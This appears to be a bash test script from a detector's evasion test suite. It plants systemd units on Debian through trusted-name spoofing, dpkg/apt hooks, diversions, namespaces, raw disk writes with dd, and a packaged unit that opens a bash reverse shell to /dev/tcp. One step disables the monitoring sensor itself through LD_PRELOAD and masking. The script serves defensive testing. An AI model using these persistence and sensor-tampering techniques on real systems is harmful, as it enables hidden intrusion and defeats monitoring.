# Ways around detectors that need a whole Debian (docs/CATALOG.md, part C): names that are trusted elsewhere, the package
# manager's own hooks, lineage that breaks off, the disk below the filesystem, and the sensor itself. Run as root out of
# alice's login; the rest is the evasion matrix's.
# shellcheck shell=bash

etc=/etc/systemd/system
unit='[Service]\nExecStart=/opt/suite/agent\n'

step catalog.C22
bash -c "exec -a '/usr/lib/systemd/systemd --system' bash -c 'printf \"$unit\" >$etc/cat-argv0.service'"
step catalog.C23
cp /bin/bash /opt/suite/dpkg
/opt/suite/dpkg -c "printf '$unit' >$etc/cat-copied.service"
step catalog.C24
unshare --mount sh -c "mount --bind /bin/bash /usr/bin/dpkg; /usr/bin/dpkg -c 'printf \"$unit\" >$etc/cat-bound.service'"
step catalog.C25
dpkg --pre-invoke="printf '$unit' >$etc/cat-invoke.service" --configure --pending
apt-get -o "DPkg::Pre-Invoke::=printf '$unit' >$etc/cat-apt.service" -o "APT::Update::Pre-Invoke::=printf '$unit' >$etc/cat-apt.service" update >/dev/null

# Trusted tools write it themselves.
put $etc/cat-diverted.service
put /opt/suite/cat-alternative.service
step catalog.C26
dpkg-divert --local --rename --divert $etc/cat-moved.service --add $etc/cat-diverted.service
update-alternatives --install $etc/cat-alternative.service cat-alternative /opt/suite/cat-alternative.service 1
tar -C /opt/suite -cf - cat-alternative.service | tar -C /usr/lib/systemd/system -xf -
rsync /opt/suite/cat-alternative.service $etc/cat-rsync.service

# A package, well made, with a unit that is not well meant.
package=/opt/suite/package
put $package/DEBIAN/control 'Package: cat-unit\nVersion: 1\nArchitecture: all\nMaintainer: cat <cat@localhost>\nDescription: cat\n'
put $package/usr/lib/systemd/system/cat-package.service "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'\n"
dpkg-deb --build $package /opt/suite/cat-unit.deb
step catalog.C27
dpkg --install /opt/suite/cat-unit.deb

for name in renamed loader; do put $etc/cat-$name.service; done
step catalog.C29
cp "$(command -v systemctl)" /opt/suite/kworker
/opt/suite/kworker enable cat-renamed.service
/lib64/ld-linux-x86-64.so.2 "$(command -v systemctl)" enable cat-loader.service

step catalog.C30
unshare --user --map-root-user --mount --pid --fork sh -c "printf '$unit' >$etc/cat-namespaces.service"
step catalog.C32
setsid --fork sh -c "(sleep 0.3; printf '$unit' >$etc/cat-forked.service) & exit 0"
systemd-run --wait --quiet --unit=cat-writer sh -c "printf '$unit' >$etc/cat-by-service.service"
sleep 0.5

# The block of a unit's file on the disk: no operation on the file.
put $etc/cat-raw.service '[Service]\nType=oneshot\nExecStart=/bin/sleep 0.1\n'
systemctl daemon-reload
sync
disk=$(findmnt --noheadings --output=SOURCE --target=$etc)
block=$(debugfs -R "bmap $etc/cat-raw.service 0" "$disk" 2>/dev/null | tail -n 1)
step catalog.C16
printf '[Service]\nType=oneshot\nExecStart=/bin/sleep 0.2\n' | dd of="$disk" bs=4096 seek="$block" conv=notrunc status=none
sync
echo 3 >/proc/sys/vm/drop_caches
grep ExecStart $etc/cat-raw.service
systemctl daemon-reload
systemctl start cat-raw.service
sleep 2

step catalog.C33
put $etc/svcsensor.service.d/cat.conf '[Service]\nEnvironment=LD_PRELOAD=/tmp/cat.so\nExecStart=\nExecStart=/bin/true\n'
ln -s /dev/null /run/systemd/system/svcsensor.service
eventually 20 told $etc/svcsensor.service.d/cat.conf
rm -r $etc/svcsensor.service.d /run/systemd/system/svcsensor.service
